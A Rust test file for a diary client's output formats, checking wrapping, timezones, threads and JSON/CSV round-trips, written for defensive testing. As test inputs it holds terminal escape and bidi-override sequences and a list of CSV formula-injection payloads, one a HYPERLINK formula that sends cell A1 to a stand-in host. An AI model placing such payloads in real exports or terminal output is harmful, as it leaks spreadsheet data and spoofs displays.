//! Every format with the contents of real diaries: Chinese, long and multi-line texts, escape sequences, explicit
//! times, gaps and damage.

use diary_client::{Author, Entry, Key, Producer, Time};
use diary_proto::{DayStart, OwnTime, Relation};
use insta::assert_snapshot;

use super::*;

/// Returns an entry as a server sends it, with its line as stored.
fn entry(seq: u64, time: &str, at: Option<&str>, author: &str, text: &str) -> Event {
    let parse = |time: &str| Time::parse(time.as_bytes()).unwrap();
    let entry = Entry {
        seq,
        time: parse(time),
        own: at.map(|at| OwnTime::new(parse(at), DayStart::default())),
        day: None,
        relation: None,
        author: Author::new(author).unwrap(),
        text: text.to_owned(),
    };
    let own = entry.own.map_or_else(String::new, |own| format!("({}) ", own.at.minute()));
    let left = format!("{seq} {time} {author} {own}{}", diary_proto::escape::escape(text));
    let key = seq.is_multiple_of(2).then_some(Key { producer: Producer(0x6b1f_09c2_d4e8_a735), counter: 17 });
    Event::Entry(Stored { entry, key, crc: 0, left, correction: None })
}

/// Makes an entry one that belongs to an earlier one.
fn related(event: Event, relation: Relation) -> Event {
    let Event::Entry(mut stored) = event else { return event };
    stored.entry.relation = Some(relation);
    let words: Vec<&str> = stored.left.splitn(4, ' ').collect();
    stored.left = format!("{} ({relation}) {}", words[..3].join(" "), words[3]);
    Event::Entry(stored)
}

fn events() -> Vec<Event> {
    let related = [Relation::Answers(7), Relation::Corrects(7), Relation::Redacts(8)]
        .into_iter()
        .zip(31..)
        .map(|(relation, seq)| {
            related(entry(seq, "2026-11-25T10:00:00.000000+08:00", None, "anna", "two\nlines"), relation)
        });
    let mut events = plain_events();
    events.extend(related);
    events
}

fn plain_events() -> Vec<Event> {
    vec![
        entry(
            7,
            "2026-11-21T08:15:02.123456+08:00",
            None,
            "小明",
            "今天天气很好，我们一起去公园散步，看见了很多花。",
        ),
        entry(
            8,
            "2026-11-22T06:59:59.999999+08:00",
            None,
            "anna",
            "still Saturday in Berlin, \"quoted\", with a, comma",
        ),
        Event::Gap(Gap { first: 9, last: 11 }),
        entry(
            12,
            "2026-11-22T07:00:00.000000+08:00",
            Some("2015-03-02T08:15:00.000000+08:00"),
            "anna",
            "a list:\n\n- one\t*two*\n  3. three\n--flag -5 # four\n---\n#tag\n## 👨‍👩‍👧 snake_case _x_ <b>AT&T &amp; [x](y) C:\\dir\r\nend\n",
        ),
        Event::Damaged { lines: 1 },
        entry(
            13,
            "2026-11-22T09:00:00.000000+08:00",
            None,
            "a_very_long_author_name",
            "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m\u{7f}\u{202e}evil\u{2028}\u{2066}",
        ),
        entry(
            14,
            "2026-11-22T09:00:01.000000+08:00",
            None,
            "local",
            "https://example.org/a/very/long/path/that/no/break/fits 👍🏽👍🏽👍🏽",
        ),
        Event::Damaged { lines: 2 },
    ]
}

fn print(format: Format, colour: bool, width: usize) -> String {
    print_with(Printer::of(format, colour, TimeZone::get("Europe/Berlin").unwrap(), width))
}

fn print_with(mut printer: Printer) -> String {
    let mut out = Vec::new();
    printer.begin(&mut out);
    for event in events() {
        printer.event(&event, &mut out);
    }
    printer.end(&mut out);
    String::from_utf8(out).unwrap()
}

/// Returns the display width of a line.
fn columns(line: &str) -> usize {
    textwrap::core::display_width(line)
}

#[test]
fn pretty() {
    assert_snapshot!("pretty_0", print(Format::Pretty, false, 0));
    assert_snapshot!("pretty_20", print(Format::Pretty, false, 20));
    assert_snapshot!("pretty_80", print(Format::Pretty, false, 80));
    assert_snapshot!("pretty_colour", print(Format::Pretty, true, 80).replace('\x1b', "ESC"));
}

#[test]
fn plain() {
    assert_snapshot!("plain", print(Format::Plain, true, 20));
}

#[test]
fn short() {
    assert_snapshot!("short", print(Format::Short, false, 80));
    assert_snapshot!("short_colour", print(Format::Short, true, 80).replace('\x1b', "ESC"));
}

#[test]
fn txt() {
    assert_snapshot!("txt", print(Format::Txt, true, 80));
}

#[test]
fn md() {
    assert_snapshot!("md", print(Format::Md, true, 80));
}

#[test]
fn csv() {
    assert_snapshot!("csv", visible(&print(Format::Csv, true, 80)));
    let printer = Printer { terminal: true, ..Printer::of(Format::Csv, false, TimeZone::UTC, 0) };
    assert_snapshot!("csv_on_a_terminal", visible(&print_with(printer)));
}

#[test]
fn json() {
    assert_snapshot!("json", print(Format::Json, true, 80));
}

#[test]
fn json_says_a_day_that_its_time_does_not() {
    let mut event =
        entry(1, "2026-11-21T08:15:02.123456+08:00", Some("2015-03-02T01:30:00.000000+08:00"), "a", "b");
    let Event::Entry(stored) = &mut event else { unreachable!("it is an entry") };
    stored.entry.own = stored.entry.own.map(|own| OwnTime::new(own.at, "03:00".parse().unwrap()));
    let mut out = Vec::new();
    Printer::of(Format::Json, false, TimeZone::UTC, 0).event(&event, &mut out);
    let object: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(
        (&object["at"], &object["day"]),
        (&"2015-03-02T01:30:00.000000+08:00".into(), &"2015-03-01".into())
    );
}

/// Spells out what a snapshot file cannot hold.
fn visible(text: &str) -> String {
    let spell = |c: char| match c {
        '\n' => c.to_string(),
        c if safe::needs_care(c) => c.escape_default().to_string(),
        c => c.to_string(),
    };
    text.chars().map(spell).collect()
}

#[test]
fn no_row_is_wider_than_the_terminal() {
    for width in WIDE {
        for line in print(Format::Pretty, false, width).lines() {
            let is_notice = line.starts_with("──") || line.starts_with("gap") || line.starts_with("damaged");
            assert!(is_notice || columns(line) <= width, "{width}: {} in {line:?}", columns(line));
        }
    }
}

const WIDE: [usize; 6] = [12, 13, 20, 40, 79, 200];

#[test]
fn nothing_from_an_entry_reaches_a_terminal_as_a_control() {
    for format in Format::SHOWN {
        let mut printer = Printer::of(*format, false, TimeZone::UTC, 80);
        printer.terminal = true;
        let printed = print_with(printer);
        let control = printed.chars().find(|&c| safe::needs_care(c) && c != '\n' && c != '\r');
        assert_eq!(control, None, "{format:?}");
        // CR only ends a line of csv.
        assert_eq!(printed.matches('\r').count(), printed.matches("\r\n").count(), "{format:?}");
    }
}

#[test]
fn programs_get_the_texts_back() {
    let texts: Vec<String> = events().into_iter().filter_map(text_of).collect();
    let printed = print(Format::Json, false, 0);
    let objects = printed.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
    let back: Vec<String> =
        objects.filter_map(|object| Some(object.get("text")?.as_str()?.to_owned())).collect();
    assert_eq!(back, texts);
    let printed = print(Format::Csv, false, 0);
    let mut reader = ::csv::Reader::from_reader(printed.as_bytes());
    let back: Vec<String> = reader.records().map(|record| record.unwrap()[4].to_owned()).collect();
    assert_eq!(back, texts);
}

/// Returns authors and texts of a csv as a program parses them.
fn cells(printer: Printer, events: &[Event]) -> Vec<[String; 2]> {
    let (mut printer, mut out) = (printer, Vec::new());
    printer.begin(&mut out);
    events.iter().for_each(|event| printer.event(event, &mut out));
    let mut reader = ::csv::Reader::from_reader(&out[..]);
    reader.records().map(Result::unwrap).map(|record| [3, 4].map(|cell| record[cell].to_owned())).collect()
}

#[test]
fn a_csv_is_exact_or_without_formulas() {
    let day = "2026-11-21T08:15:02.123456+08:00";
    let formulas = [
        "=HYPERLINK(\"http://h/?\"&A1,\"look\")",
        "+1",
        "-2+3",
        "- a list\n- of two",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
    ];
    let texts = ["'=1", "a=1", " =1", "1-1", "今天\n=1", "", "'"];
    let entries =
        |texts: &[&str]| texts.iter().map(|text| entry(1, day, None, "=1+1", text)).collect::<Vec<_>>();
    let csv = |csv_safe| Printer { csv_safe, ..Printer::of(Format::Csv, false, TimeZone::UTC, 0) };
    for (text, cells) in formulas.iter().zip(cells(csv(true), &entries(&formulas))) {
        assert_eq!(cells, ["'=1+1".to_owned(), format!("'{text}")]);
    }
    for (text, cells) in texts.iter().zip(cells(csv(true), &entries(&texts))) {
        assert_eq!(cells[1], *text, "it is no formula");
    }
    for (text, cells) in formulas.iter().zip(cells(csv(false), &entries(&formulas))) {
        assert_eq!(cells, ["=1+1", text]);
    }
}

fn text_of(event: Event) -> Option<String> {
    match event {
        Event::Entry(stored) => Some(stored.entry.text),
        Event::Gap(_) | Event::Damaged { .. } | Event::Restored { .. } => None,
    }
}

#[test]
fn each_answer_has_its_own_headings() {
    let mut printer = Printer::of(Format::Pretty, false, TimeZone::UTC, 0);
    let mut out = Vec::new();
    for _ in 0..2 {
        printer.begin(&mut out);
        let day = "2026-11-21T08:15:02.123456+00:00";
        for seq in 1..3 {
            printer.event(&entry(seq, day, None, "a", "b"), &mut out);
        }
        printer.end(&mut out);
    }
    let day = "── 2026-11-21 Saturday ──\n08:15 #1 a b\n08:15 #2 a b\n";
    assert_eq!(String::from_utf8(out).unwrap(), day.repeat(2));
}

#[test]
fn a_thread_is_indented() {
    let (first, later) = ("2026-11-21T08:15:02.123456+00:00", "2026-11-22T08:15:02.123456+00:00");
    let answer = |seq, answered| {
        let event = entry(seq, later, None, "anna", "two lines that are wrapped\nend");
        related(event, Relation::Answers(answered))
    };
    let events = [
        related(entry(7, first, None, "ben", "one"), Relation::Answers(3)),
        answer(9, 7),
        answer(12, 9),
        Event::Gap(Gap { first: 13, last: 13 }),
        answer(10, 7),
    ];
    let shown =
        [Format::Pretty, Format::Short, Format::Txt, Format::Md, Format::Plain, Format::Csv].map(|format| {
            let mut printer = Printer::of(format, false, TimeZone::UTC, 40);
            let mut out = Vec::new();
            printer.show_thread(true);
            printer.begin(&mut out);
            events.iter().for_each(|event| printer.event(event, &mut out));
            printer.end(&mut out);
            format!("{format:?}\n{}", String::from_utf8(out).unwrap())
        });
    assert_snapshot!("thread", shown.join("\n"));
}
